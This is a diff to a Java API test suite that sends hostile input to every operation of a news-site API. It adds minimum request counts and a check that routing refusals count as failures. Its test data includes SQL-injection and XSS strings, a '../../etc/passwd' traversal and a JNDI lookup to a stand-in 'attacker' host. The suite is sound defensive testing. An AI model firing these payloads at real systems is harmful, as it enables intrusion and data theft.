@@ -2,6 +2,7 @@ package io.kiosque.http.hardening;
 
 import static io.restassured.RestAssured.given;
 import static org.hamcrest.Matchers.equalTo;
+import static org.junit.jupiter.api.Assertions.assertEquals;
 import static org.junit.jupiter.api.Assertions.assertTrue;
 
 import java.net.URLEncoder;
@@ -28,10 +29,12 @@ import com.fasterxml.jackson.databind.ObjectMapper;
 import com.fasterxml.jackson.databind.node.ObjectNode;
 
 import io.kiosque.article.ArticleStatus;
+import io.kiosque.http.Problems;
 import io.kiosque.support.Api;
 import io.kiosque.support.ApiOperations;
 import io.kiosque.support.ApiOperations.Operation;
 import io.kiosque.support.NothingWritten;
+import io.kiosque.support.Printable;
 import io.kiosque.support.TestContent;
 import io.restassured.http.ContentType;
 import io.restassured.response.Response;
@@ -41,8 +44,10 @@ import io.restassured.specification.RequestSpecification;
  * Hostile input against every operation of the served OpenAPI document, sent with the admin token so that only input
  * validation can refuse it: malformed and ambiguous JSON, wrong types, unknown and read-only members, NUL characters,
  * invalid UTF-8, deep nesting, oversized strings and arrays, out-of-range and injected query parameters, forged
- * cursors, malformed and unknown ids. Every answer must be a 4xx problem document, never a 5xx, and nothing may be
- * written.
+ * cursors, malformed and unknown ids. Every answer must be a 4xx problem document, never a 5xx, from the check meant
+ * for that input: a 404 of an unmatched route or a 405 never reached it, so it is a failure, not a refusal. Nothing may
+ * be written, and each test sends at least a known number of requests, so that a shrunken document cannot pass it
+ * vacuously.
  */
 abstract class HostileInputSuite {
 
@@ -57,6 +62,15 @@ abstract class HostileInputSuite {
     private static final List<String> HOSTILE_QUERY_VALUES = List.of("' OR '1'='1", "1;DROP TABLE article--",
             "\u0000", "a\u0000b", "<script>alert(1)</script>", "../../etc/passwd", "${jndi:ldap://attacker/a}",
             "-1", "1e309", "99999999999999999999", "{\"$ne\":null}", "\uD83D\uDCA5\u202E", "");
+
+    /**
+     * The fewest requests each test sends against the served document (about 90% of what it sends today): fewer means
+     * operations or parameters went missing from the document, or the suite skips them.
+     */
+    private static final int MIN_BODY_REQUESTS = 950;
+    private static final int MIN_QUERY_REQUESTS = 580;
+    private static final int MIN_CURSOR_REQUESTS = 50;
+    private static final int MIN_ID_REQUESTS = 450;
 
     /** Filters that take a slug (or an id): a well-formed slug of nothing is a valid, empty filter. */
     private static final Set<String> SLUG_FILTERS = Set.of("author", "section", "tag", "parent");
@@ -124,7 +138,7 @@ abstract class HostileInputSuite {
             return sent;
         });
         System.out.printf("Hostile bodies: %d requests, %d failures%n", requests, failures.size());
-        assertTrue(requests > 500, "every operation with a body got its hostile bodies");
+        assertTrue(requests > MIN_BODY_REQUESTS, "every operation with a body got its hostile bodies: " + requests);
         assertTrue(failures.isEmpty(), String.join("\n", failures.subList(0, Math.min(40, failures.size()))));
     }
 
@@ -145,7 +159,8 @@ abstract class HostileInputSuite {
                         }
                         Response response = request(operation).request(operation.method(),
                                 path + required(operation, name) + name + "=" + encode(value));
-                        expectRefusal(failures, operation + " with " + name + "=" + printable(value), response, name);
+                        expectRefusal(failures, operation + " with " + name + "=" + Printable.abbreviate(value, 40),
+                                response, name);
                         sent++;
                     }
                     if (!"array".equals(operation.queryParameters().get(name).get("type"))) {
@@ -163,6 +178,7 @@ abstract class HostileInputSuite {
             return sent;
         });
         System.out.printf("Hostile query parameters: %d requests, %d failures%n", requests, failures.size());
+        assertTrue(requests > MIN_QUERY_REQUESTS, "every query parameter got its hostile values: " + requests);
         assertTrue(failures.isEmpty(), String.join("\n", failures.subList(0, Math.min(40, failures.size()))));
     }
 
@@ -180,7 +196,8 @@ abstract class HostileInputSuite {
         List<String> forged = List.of("AAAA", "eyJpZCI6MX0", tagsCursor, new String(tampered), articlesCursor + "x",
                 "%FF%FE", "null", "0");
         List<String> failures = new ArrayList<>();
-        nothingWritten.during(() -> {
+        int requests = nothingWritten.during(() -> {
+            int sent = 0;
             for (Operation operation : operations) {
                 if (!operation.queryParameters().containsKey("cursor")) {
                     continue;
@@ -192,10 +209,13 @@ abstract class HostileInputSuite {
                     Response response = request(operation).request(operation.method(),
                             concrete(operation.path()) + required(operation, "cursor") + "cursor=" + encode(cursor));
                     expectRefusal(failures, operation + " with cursor " + cursor, response, "cursor");
+                    sent++;
                 }
             }
-            return null;
+            return sent;
         });
+        System.out.printf("Forged cursors: %d requests, %d failures%n", requests, failures.size());
+        assertTrue(requests > MIN_CURSOR_REQUESTS, "every paged operation got the forged cursors: " + requests);
         // A cursor is bound to the query it came from: the same endpoint with another filter refuses it.
         expectRefusal(failures, "articles cursor under another filter",
                 given().get("/api/v1/articles?limit=1&section=international&cursor=" + articlesCursor), "cursor");
@@ -233,6 +253,7 @@ abstract class HostileInputSuite {
             return sent;
         });
         System.out.printf("Hostile ids: %d requests, %d failures%n", requests, failures.size());
+        assertTrue(requests > MIN_ID_REQUESTS, "every path parameter got the hostile ids: " + requests);
         assertTrue(failures.isEmpty(), String.join("\n", failures.subList(0, Math.min(40, failures.size()))));
     }
 
@@ -243,29 +264,53 @@ abstract class HostileInputSuite {
     @Test
     void hostileTextIsSearchedAsTextNeverInterpreted() {
         String word = "zqxhostile" + TestContent.unique("w").replace("-", "");
-        nothingWritten.during(() -> {
+        int requests = nothingWritten.during(() -> {
+            int sent = 0;
             for (String injection : List.of("'; DELETE FROM article; --", "') ; select pg_sleep(5) --",
                     "\" | ! & :* <-> (", "%' AND 1=1 --", "$1 ; drop table tag", "'||(select email from author)||'",
                     "\\x00 \\' \\\"", "to_tsquery('*')")) {
                 for (String query : List.of(word + " " + injection, injection + " " + word)) {
                     given().urlEncodingEnabled(false).get("/api/v1/articles?q=" + encode(query)).then().statusCode(200)
                             .body("items.size()", equalTo(0));
+                    sent++;
                 }
             }
-            return null;
+            return sent;
         });
+        assertEquals(16, requests, "each injection before and after the word");
     }
 
     @Test
     void methodOverrideHeadersAreIgnored() {
         String path = "/api/v1/articles/" + targets.get("/api/v1/articles/{idOrSlug}");
-        nothingWritten.during(() -> {
+        int requests = nothingWritten.during(() -> {
+            int sent = 0;
             for (String header : List.of("X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override")) {
                 Api.as(Api.ADMIN).header(header, "DELETE").get(path).then().statusCode(200);
                 Api.as(Api.ADMIN).header(header, "DELETE").post(path).then().statusCode(405);
+                sent += 2;
             }
-            return null;
+            return sent;
         });
+        assertEquals(6, requests, "each header with a read and a write");
+    }
+
+    /** The guard itself: an address no route serves, or a method it does not allow, never counts as a refusal. */
+    @Test
+    void aRequestRefusedByRoutingIsAFailureNotARefusal() {
+        List<String> failures = new ArrayList<>();
+        expectRefusal(failures, "no such route", Api.as(Api.ADMIN).get("/api/v1/nowhere"), null);
+        expectRefusal(failures, "too deep for any resource", Api.as(Api.ADMIN).get("/api/v1/sections/a/b/c"), null);
+        expectRefusal(failures, "no such method", Api.as(Api.ADMIN).contentType(ContentType.JSON).body("{}")
+                .patch("/api/v1/tokens"), null);
+        assertEquals(3, failures.size(), String.join("\n", failures));
+        failures.forEach(failure -> assertTrue(failure.contains("refused by routing"), failure));
+        List<String> none = new ArrayList<>();
+        expectRefusal(none, "a NUL in the path",
+                Api.as(Api.ADMIN).urlEncodingEnabled(false).get("/api/v1/sections/%00"),
+                null);
+        expectRefusal(none, "an unknown slug", Api.as(Api.ADMIN).get("/api/v1/sections/aucune-rubrique"), null);
+        assertEquals(List.of(), none, "refused by the URL check and by the lookup, as they should be");
     }
 
     /** Hostile bodies for one operation: the documented example made invalid in one way each. */
@@ -290,7 +335,8 @@ abstract class HostileInputSuite {
         }
         for (String malformed : List.of("{", "{\"headline\":", "[]", "\"text\"", "42", "null", "{}}",
                 "{\"a\":1,}", "{'a':1}", example + " garbage", example + example, "{\"a\":01}", "{\"a\":NaN}")) {
-            bodies.put("malformed JSON " + printable(malformed), r -> r.contentType(mediaType).body(malformed));
+            bodies.put("malformed JSON " + Printable.abbreviate(malformed, 40),
+                    r -> r.contentType(mediaType).body(malformed));
         }
         bodies.put("the example as text/plain", r -> r.contentType("text/plain").body(example));
         bodies.put("an unknown charset", r -> r.contentType(mediaType + "; charset=klingon")
@@ -502,7 +548,7 @@ abstract class HostileInputSuite {
     private static void expectRefusal(List<String> failures, String label, Response response, String parameter) {
         int status = response.statusCode();
         if (status < 400 || status >= 500) {
-            failures.add(label + ": answered " + status + " " + abbreviated(response.asString()));
+            failures.add(label + ": answered " + status + " " + Printable.abbreviate(response.asString(), 300));
             return;
         }
         String type = response.contentType();
@@ -511,22 +557,22 @@ abstract class HostileInputSuite {
             return;
         }
         Map<String, Object> problem = response.jsonPath().getMap("");
+        if (status == 405 || status == 404 && Problems.NO_RESOURCE.equals(problem.get("detail"))) {
+            failures.add(label + ": refused by routing (" + status + "), so it never reached the check it is for");
+            return;
+        }
         if (!Integer.valueOf(status).equals(problem.get("status")) || problem.get("title") == null
                 || problem.get("type") == null) {
             failures.add(label + ": incomplete problem " + problem);
         }
         String text = response.asString();
         if (LEAKS.matcher(text).find()) {
-            failures.add(label + ": the problem reveals internals: " + abbreviated(text));
+            failures.add(label + ": the problem reveals internals: " + Printable.abbreviate(text, 300));
         }
         if (parameter != null && status == 400 && !text.contains("\"" + parameter + "\"")
                 && !text.contains("'" + parameter + "'")) {
-            failures.add(label + ": the problem does not name " + parameter + ": " + abbreviated(text));
+            failures.add(label + ": the problem does not name " + parameter + ": " + Printable.abbreviate(text, 300));
         }
-    }
-
-    private static String abbreviated(String text) {
-        return text.length() > 300 ? text.substring(0, 300) + "…" : text;
     }
 
     private String create(String path, Map<String, Object> body) {
@@ -540,11 +586,6 @@ abstract class HostileInputSuite {
 
     private static String encode(String value) {
         return URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20");
-    }
-
-    private static String printable(String value) {
-        String shown = value.replace("\u0000", "\\u0000");
-        return shown.length() > 40 ? shown.substring(0, 40) + "…" : shown;
     }
 
     private static String json(Object value) {
